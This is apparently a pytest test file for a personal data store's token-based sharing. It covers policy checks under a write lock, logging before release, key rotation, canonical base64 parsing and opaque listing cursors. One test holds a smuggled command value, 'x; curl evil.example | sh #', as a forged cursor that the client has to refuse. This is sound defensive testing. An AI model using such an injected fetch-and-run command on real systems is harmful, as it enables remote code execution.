def test_a_policy_changed_after_the_check_is_applied_under_the_write_lock(
    world: World,
    agency: pds.PrincipalKey,
    monkeypatch: pytest.MonkeyPatch,
    days: int,
    served: bool,
) -> None:
    """The owner sets a policy between the host's check of a 30-day token and its write
    transaction: the host checks the request again under the lock, so a lowered cap
    refuses it (and logs why) and a raised one serves it."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    assert len(grantee.read(world.store, token).records) == 1  # the chain is cached
    owner = world.open_vault(world.open_store())
    _between_check_and_commit(
        world,
        monkeypatch,
        lambda: owner.set_policy(max_token_lifetime=dt.timedelta(days=days)),
    )
    if served:
        assert len(grantee.read(world.store, token).records) == 1
        assert refusals(world.vault) == []
    else:
        with pytest.raises(LifetimeExceeded):
            grantee.read(world.store, token)
        assert refusals(world.vault) == ["lifetime"]


# -- log first, then release ----------------------------------------------------------


def log_table(db: Path) -> str:
    con = sqlite3.connect(db)
    try:
        tables = {row[0] for row in con.execute("SELECT name FROM sqlite_master")}
    finally:
        con.close()
    (table,) = tables & {"access", "log_entries"}
    return str(table)


def test_nothing_is_released_when_the_access_cannot_be_logged(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    grantee.read(world.store, token)
    size = len(world.vault.access_log())
    invocation = grantee.invoke(token).to_bytes()
    with raw(world.db) as con:
        con.execute(
            f"CREATE TRIGGER no_log BEFORE INSERT ON {log_table(world.db)} "
            "BEGIN SELECT RAISE(ABORT, 'log unavailable'); END"
        )
    with pytest.raises(StoreError):
        world.store.serve(invocation)
    # A refusal cannot be logged either: the request is still refused, with a store error.
    with pytest.raises(StoreError):
        world.store.serve(forge_invocation(token, agency, purpose="x", time_ms=world.clock.ms))
    with raw(world.db) as con:
        con.execute("DROP TRIGGER no_log")
    assert len(world.vault.access_log()) == size
    # Nothing of the failed attempt was committed: not even its nonce or a budget use.
    response = world.store.serve(invocation)
    assert log_entry(world.vault, response.access).result == "released"


# -- rotation -------------------------------------------------------------------------


def test_records_written_after_rotation_reach_live_grantees_and_seen_delegates(
    world: World, agency: pds.PrincipalKey
) -> None:
    before = world.vault.put("tax/a", {"n": "before"}).record_id
    token = grant(world, agency, delegable=1)
    sub = pds.PrincipalKey.generate()
    delegated = world.grantee(agency).delegate(token, to=sub.did)
    assert len(world.grantee(sub).read(world.store, delegated).records) == 1  # seen by the host
    assert world.vault.rotate() == {"tax/a": 2}
    after = world.vault.put("tax/a", {"n": "after"})
    assert after.epoch == 2
    expected = {before: {"n": "before"}, after.record_id: {"n": "after"}}
    # The new epoch is not in the tokens: the host sends it, sealed to each holder.
    for key, used in ((agency, token), (sub, delegated)):
        assert {(k.collection, k.epoch) for k in used.leaf.keys} == {("tax/a", 1)}
        response = world.store.serve(world.grantee(key).invoke(used, action="list").to_bytes())
        assert [(k[0], k[1]) for k in response.keys] == [("tax/a", 2)]
    for key, used in ((agency, token), (sub, delegated)):
        world.reopen()
        read = world.grantee(key).read(world.store, used)
        assert {r.record_id: r.data for r in read.records} == expected
    # A collection created after the grant reaches its holder the same way.
    created = world.vault.put("tax/new", {"n": "new collection"}).record_id
    read = world.grantee(agency).read(world.store, token, records=[created])
    assert [r.data for r in read.records] == [{"n": "new collection"}]


def test_a_delegation_made_after_rotation_reads_new_records(
    world: World, agency: pds.PrincipalKey
) -> None:
    token = grant(world, agency, delegable=1)
    world.vault.put("tax/a", {"n": "before"})
    world.vault.rotate()
    world.vault.put("tax/a", {"n": "after"})
    holder = world.grantee(agency)
    assert len(holder.read(world.store, token).records) == 2
    # A holder that has read the new epoch passes it on when it delegates.
    sub = pds.PrincipalKey.generate()
    delegated = holder.delegate(token, to=sub.did)
    assert len(world.grantee(sub).read(world.store, delegated).records) == 2
    # One that has not (a fresh process) cannot: the delegate's new-epoch records are
    # pending, nothing is released for them, until the owner shares the epoch.
    other = pds.PrincipalKey.generate()
    blind = world.grantee(agency).delegate(token, to=other.did)
    first = world.grantee(other).read(world.store, blind)
    # (The grant predates the collection, so both of its epochs reached the holder
    # after its link was issued.)
    assert [len(first.records), len(first.pending)] == [0, 2]
    assert world.vault.share_keys() == 2
    assert len(world.grantee(other).read(world.store, blind).records) == 2


@pytest.mark.parametrize("new_epoch", ["rotation", "new collection"])
def test_a_delegation_first_used_after_a_new_epoch_reads_new_records(
    world: World, agency: pds.PrincipalKey, new_epoch: str
) -> None:
    token = grant(world, agency, delegable=1)
    if new_epoch == "rotation":
        world.vault.put("tax/a", {"n": "before"})
    sub = pds.PrincipalKey.generate()
    delegated = world.grantee(agency).delegate(token, to=sub.did)
    if new_epoch == "rotation":
        world.vault.rotate()
        world.vault.put("tax/a", {"n": "after"})
    else:
        world.vault.put_many("tax/a", [{"n": "first"}, {"n": "second"}])
    assert len(world.grantee(agency).read(world.store, token).records) == 2
    # The host saw the delegation only now: the new epoch is pending (nothing released
    # for it) until the owner shares it; then the delegate reads everything.
    try:
        first = world.grantee(sub).read(world.store, delegated)
    except IntegrityError as failed:
        pytest.fail(f"the delegate cannot open its response: {failed.reason}")
    assert first.pending
    assert len(first.records) + len(first.pending) == 2
    assert world.vault.share_keys() >= 1
    assert len(world.grantee(sub).read(world.store, delegated).records) == 2


# -- hostile but well-signed arguments ------------------------------------------------

BAD_ARGUMENT = (
    "BUG: Host.serve lets a non-pds exception escape for a validly signed invocation "
    "({}); promise 11 asks for a pds error"
)


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param({"cursor": "abc"}, id="cursor-letters"),
        pytest.param({"cursor": "1.2.3"}, id="cursor-three-parts"),
        pytest.param({"collection": "no such collection/.."}, id="odd-collection"),
        pytest.param({"records": ["x" * 128]}, id="long-record-id"),
        pytest.param({"since": 2**63 - 1, "until": 2**63 - 1}, id="max-int64"),
        pytest.param(
            {"cursor": "².1"},
            id="cursor-unicode-digit",
        ),
        pytest.param(
            {"cursor": "9" * 40 + ".1"},
            id="cursor-huge",
        ),
        pytest.param(
            {"since": 2**63},
            id="since-2**63",
        ),
        pytest.param(
            {"until": 2**64 - 1},
            id="until-2**64-1",
        ),
    ],
)
def test_extreme_signed_arguments_get_a_pds_answer(
    world: World, agency: pds.PrincipalKey, arguments: dict[str, Any]
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    for action in ("read", "list"):
        data = forge_invocation(token, agency, action=action, time_ms=world.clock.ms, **arguments)
        with contextlib.suppress(PDSError):
            world.store.serve(data)


def test_invocation_text_is_canonical_base64(world: World, agency: pds.PrincipalKey) -> None:
    """One invocation has one text form: no dropped characters, no other alphabet."""
    token = grant(world, agency)
    text = world.grantee(agency).invoke(token).to_text()
    body = text[len("pdsi1_") :]
    variants = [text[:12] + "!" + text[12:], text[:12] + "\n" + text[12:]]
    if "-" in body or "_" in body:
        variants.append("pdsi1_" + body.replace("-", "+").replace("_", "/"))
    for variant in variants:
        with pytest.raises(MalformedToken):
            Invocation.parse(variant)
    # The final character's unused low bits set: a second spelling of the same bytes,
    # refused too (token.md, parsing an invocation, step 1). Agents of 0..3 characters
    # give a text whose length leaves unused bits.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    texts = (world.grantee(agency).invoke(token, agent="a" * k).to_text() for k in range(1, 5))
    text = next(t for t in texts if len(t) % 4 != len("pdsi1_") % 4)
    last = text[-1]
    other = next(
        c for c in alphabet if c != last and alphabet.index(c) >> 2 == alphabet.index(last) >> 2
    )
    body = text[len("pdsi1_") :]
    padded = "=" * (-len(body) % 4)
    assert base64.urlsafe_b64decode(body[:-1] + other + padded) == base64.urlsafe_b64decode(
        body + padded
    )
    assert Invocation.parse(text).to_text() == text
    with pytest.raises(MalformedToken):
        Invocation.parse(text[:-1] + other)


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"uses": 2**63}, id="uses"),
        pytest.param({"window": (2**63, None)}, id="window"),
    ],
)
def test_out_of_range_delegation_caveats_get_a_pds_answer(
    world: World, agency: pds.PrincipalKey, changes: dict[str, Any]
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, delegable=1)
    sub = pds.PrincipalKey.generate()
    caveats = dataclasses.replace(token.leaf.caveats, depth=0, **changes)
    # Token integers stay below 2**63 (they are stored and compared as 64-bit integers):
    # such a link cannot even be made, and the parser refuses it from anyone else.
    with pytest.raises(MalformedToken):
        make_link(
            signer=agency._key,
            vault_id=token.vault_id,
            audience=sub.public_key,
            parent=token.leaf,
            caveats=caveats,
            keys=token.leaf.keys,
            salt=b"\x00" * 16,
        )


# -- what refusals and listings reveal ------------------------------------------------


def test_listing_pages_cover_exactly_the_scope(world: World, agency: pds.PrincipalKey) -> None:
    expected = []
    for i in range(7):
        world.clock.advance(1000)
        collection = "tax/a" if i % 2 == 0 else "health"
        info = world.vault.put(collection, {"n": i})
        if collection == "tax/a":
            expected.append(info.record_id)
    token = grant(world, agency)
    grantee = world.grantee(agency)
    seen: list[str] = []
    cursor: str | None = None
    for _ in range(10):
        page = grantee.read(world.store, token, action="list", limit=2, cursor=cursor)
        seen += [r.record_id for r in page.records]
        cursor = page.cursor
        if cursor is None:
            break
    assert seen == expected


def _page_all(
    world: World, agency: pds.PrincipalKey, token: pds.Token, *, limit: int = 1
) -> tuple[list[str], list[str]]:
    """Page a listing to its end; the record ids seen and the cursors given."""
    grantee = world.grantee(agency)
    cursor: str | None = None
    seen: list[str] = []
    cursors: list[str] = []
    for _ in range(50):
        page = grantee.read(world.store, token, action="list", limit=limit, cursor=cursor)
        seen += [r.record_id for r in page.records]
        cursor = page.cursor
        if cursor is None:
            return seen, cursors
        cursors.append(cursor)
    raise AssertionError("the listing did not end")


def test_a_listing_cursor_is_opaque(world: World, agency: pds.PrincipalKey) -> None:
    """A cursor names the page's position (its last record's time and the store's
    insertion counter) sealed under a store key: no record time, no counter, in any
    rendering, and it changes with nothing written elsewhere in the store."""
    for i in range(4):
        world.clock.advance(1000 + i)
        world.vault.put("tax/a", {"n": i})
        world.clock.advance(777 + i)
        world.vault.put("health", {"n": i})
    token = grant(world, agency)
    seen, cursors = _page_all(world, agency, token)
    assert len(seen) == 4 and len(cursors) == 3
    times = {
        str(int(info.created_at.timestamp() * 1000))
        for collection in ("tax/a", "health")
        for info in world.vault.iter_records(collection)
    }
    positions = {str(seq) for seq in range(1, 40)}
    for cursor in cursors:
        assert len(cursor) == 43
        raw = base64.urlsafe_b64decode(cursor + "=")
        assert not any(t in cursor or t.encode() in raw for t in times)
        assert cursor.strip("0123456789.") and not set(cursor.split(".")) & positions
    # The same position seals to the same cursor: another listing of the same token
    # after writes to another vault gets the same cursors (nothing counts them).
    other = world.store.open_vault(world.store.create_vault(key_file=world.key_file))
    other.unlock(key_file=world.key_file)
    other.put_many("tax/a", [{"n": n} for n in range(20)])
    assert _page_all(world, agency, token) == (seen, cursors)


def test_a_cursor_the_holder_makes_is_refused_and_logged(
    world: World, agency: pds.PrincipalKey
) -> None:
    """The holder cannot place a listing where it likes (which would let it probe the
    store's counter): a cursor in the old plain form, one altered by a bit or a character,
    one sealed for another holder's listing and a well-formed one of its own making are
    refused (``scope:cursor``), and each refusal is logged."""
    for i in range(3):
        world.clock.advance(1000)
        world.vault.put("tax/a", {"n": i})
    token = grant(world, agency)
    _, (cursor, *_) = _page_all(world, agency, token)
    other_agency = pds.PrincipalKey.generate()
    other_token = grant(world, other_agency)
    _, (other_cursor, *_) = _page_all(world, other_agency, other_token)
    assert other_cursor != cursor
    raw = bytearray(base64.urlsafe_b64decode(cursor + "="))
    raw[5] ^= 1
    flipped = base64.urlsafe_b64encode(bytes(raw)).decode().rstrip("=")
    first = next(iter(world.vault.iter_records("tax/a")))
    plain = f"{int(first.created_at.timestamp() * 1000)}.1"
    before = len(refusals(world.vault))
    for forged in (plain, flipped, other_cursor, cursor[:-1] + "*", "A" * 43):
        invocation = forge_invocation(
            token, agency, time_ms=world.clock.ms, action="list", cursor=forged, limit=1
        )
        with pytest.raises(NotPermitted) as caught:
            world.store.serve(invocation)
        assert caught.value.reason == "scope:cursor"
    assert len(refusals(world.vault)) == before + 5
    # The genuine cursor still works.
    page = world.grantee(agency).read(world.store, token, action="list", limit=1, cursor=cursor)
    assert len(page.records) == 1


def test_a_cursor_is_good_in_every_process_of_the_store(
    world: World, agency: pds.PrincipalKey
) -> None:
    """The cursor key is the store's (in its meta table, wrapped by the host key): a page
    served by one Store object continues from another on the same file. A key row the host
    made unreadable as base64 is replaced (the cursors given out are refused, the listing
    starts again); one that does not unwrap with the host key fails closed, as a host share
    does: nothing served or logged, the key not replaced."""
    for i in range(3):
        world.clock.advance(1000)
        world.vault.put("tax/a", {"n": i})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    first = grantee.read(world.store, token, action="list", limit=1)
    assert first.cursor is not None
    page = grantee.read(world.open_store(), token, action="list", limit=1, cursor=first.cursor)
    assert page.records[0].record_id != first.records[0].record_id

    def set_key_row(value: str) -> str:
        with raw(world.db) as db:
            (stored,) = db.execute(
                "SELECT value FROM meta WHERE key = ?", (_serve.CURSOR_KEY_META,)
            ).fetchone()
            db.execute("UPDATE meta SET value = ? WHERE key = ?", (value, _serve.CURSOR_KEY_META))
        return str(stored)

    wrapped = set_key_row("not base64!")
    # Wrapped (nonce, key, tag), not the 64-byte key itself.
    assert len(base64.b64decode(wrapped)) > 64
    third = world.open_store()
    with pytest.raises(NotPermitted):
        grantee.read(third, token, action="list", limit=1, cursor=first.cursor)
    seen: list[str] = []
    cursor: str | None = None
    for _ in range(5):
        page = grantee.read(third, token, action="list", limit=1, cursor=cursor)
        seen += [r.record_id for r in page.records]
        cursor = page.cursor
        if cursor is None:
            break
    assert len(seen) == 3

    other_key = base64.b64encode(bytes(len(base64.b64decode(wrapped)))).decode()
    set_key_row(other_key)
    fourth = world.open_store()
    size = world.vault.log_size()
    with pytest.raises(IntegrityError) as refused:
        grantee.read(fourth, token, action="list", limit=1)
    assert refused.value.reason == "cursor-key"
    assert world.vault.log_size() == size
    assert set_key_row(other_key) == other_key


def test_a_cursor_has_one_text(world: World, agency: pds.PrincipalKey) -> None:
    """The same sealed bytes in other base64 spellings (the last character's spare bits
    set, the standard alphabet's '+' and '/') are refused: one text per cursor, as the
    spec says, so a strict host and pds agree."""
    for i in range(3):
        world.clock.advance(1000)
        world.vault.put("tax/a", {"n": i})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    cursor: str | None = None
    spellings: list[str] = []
    for _ in range(200):
        page = grantee.read(world.store, token, action="list", limit=1, cursor=cursor)
        cursor = page.cursor
        if cursor is None:
            page = grantee.read(world.store, token, action="list", limit=1)
            cursor = page.cursor
            assert cursor is not None
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        last = alphabet.index(cursor[-1])
        spellings += [cursor[:-1] + alphabet[last | bits] for bits in (1, 2, 3)]
        if "-" in cursor or "_" in cursor:
            spellings.append(cursor.replace("-", "+").replace("_", "/"))
            break
    for spelling in spellings:
        invocation = forge_invocation(
            token, agency, time_ms=world.clock.ms, action="list", cursor=spelling, limit=1
        )
        with pytest.raises(NotPermitted):
            world.store.serve(invocation)


def test_a_listing_of_records_made_before_1970_pages(tmp_path: Path) -> None:
    """A record's time may be negative (an owner clock before 1970): its cursor holds it
    (signed), where an unsigned one escaped serve as a struct.error."""
    world = make_world(tmp_path / "world", start_ms=-10 * DAY_MS)
    try:
        agency = pds.PrincipalKey.generate()
        for i in range(3):
            world.clock.advance(1000)
            world.vault.put("tax/a", {"n": i})
        world.clock.set(DAY_MS)  # tokens carry times from 1970 on
        token = grant(world, agency, window=None)
        seen, cursors = _page_all(world, agency, token)
        assert len(seen) == 3 and len(cursors) == 2
    finally:
        world.close()


def test_the_grantee_refuses_a_cursor_no_host_returns(
    world: World, agency: pds.PrincipalKey
) -> None:
    """A cursor the holder would send back, and may show (the CLI prints a command to page
    on), must be a served cursor's 43 base64url characters: anything else is the host's
    invention (``response``)."""
    for i in range(3):
        world.clock.advance(1000)
        world.vault.put("tax/a", {"n": i})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    invocation = grantee.invoke(token, action="list", limit=1)
    response = world.store.serve(invocation.to_bytes())
    assert response.cursor is not None
    grantee.open(token, response, invocation=invocation)
    for bad in ("x; curl evil.example | sh #", response.cursor + "A", "1750000001000.7"):
        forged = dataclasses.replace(response, cursor=bad)
        with pytest.raises(IntegrityError) as refused:
            grantee.open(token, forged, invocation=invocation)
        assert refused.value.reason == "response"


def test_a_refused_attempt_is_shown_to_the_person_at_once(
    world: World, agency: pds.PrincipalKey
) -> None:
    """A request may ask to defer its disclosure; a refused one (here not even signed by
    the holder) must not be able to hide itself from the person that way."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    stranger = pds.PrincipalKey.generate()
    hidden = forge_invocation(
        token,
        stranger,
        time_ms=world.clock.ms,
        defer=(world.clock.ms + 365 * DAY_MS, "investigation"),
    )
    with pytest.raises(WrongHolder):
        world.store.serve(hidden)
    assert refusals(world.vault) == ["holder"]


@pytest.mark.parametrize("records", ["abc", {"abc": 1}, b"abc", 5])
def test_invoke_refuses_records_that_are_not_a_list_of_ids(
    world: World, agency: pds.PrincipalKey, records: Any
) -> None:
    """A string would iterate as its characters (each a valid one-letter id): a read of
    them would be served and logged; it is refused before anything is signed or sent."""
    token = grant(world, agency)
    size = world.vault.log_size()
    with pytest.raises(FormatError, match="records must be a list"):
        world.grantee(agency).invoke(token, records=records)
    assert world.vault.log_size() == size
